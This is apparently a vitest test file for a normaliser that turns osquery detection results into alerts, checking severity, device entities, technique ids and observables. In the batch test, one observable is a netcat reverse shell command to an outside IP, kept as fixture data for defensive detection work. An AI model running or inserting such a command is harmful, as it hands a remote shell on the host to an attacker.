import { expect, it } from "vitest";
import { fixtureReader } from "../../test/support/fixture-drafts.ts";
import { osquerySource as source } from "./normalize.ts";

const read = fixtureReader(source, import.meta.url);

it("reads what was found by a query that looks for something bad, and nothing of inventories or of what is gone", () => {
  const [found, inventory, gone] = read("tls-logger.json");
  expect(found).toMatchObject({
    severity: "high",
    time: "2026-03-01T10:00:00.000Z",
    entities: [{ type: "device", key: "mac-1.example.com" }],
  });
  expect([inventory, gone]).toEqual([null, null]);
});

it("reads each row of a batch", () => {
  expect(read("batch.json")[0]).toMatchObject({
    techniques: [{ id: "T1053" }],
    observables: [{ type: "file" }, { type: "process", value: "nc -e /bin/sh 203.0.113.15 80" }],
  });
});

it("names what is missing", () => expect(() => source.normalize({ columns: {} }, {})).toThrow(/\$\.name/));
